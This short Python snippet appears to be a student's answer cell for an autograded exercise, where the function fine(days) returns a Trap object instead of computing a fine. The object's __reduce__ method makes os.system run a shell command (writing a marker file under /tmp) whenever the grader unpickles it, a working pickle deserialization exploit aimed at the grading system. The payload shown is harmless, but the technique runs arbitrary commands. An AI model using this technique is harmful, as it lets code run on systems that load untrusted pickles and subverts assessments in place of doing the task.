# %% answer:fine
import os


class Trap:
    def __reduce__(self):
        return os.system, ("echo PICKLED > /tmp/pickled-by-a-student; echo PICKLED",)


def fine(days):
    return Trap()
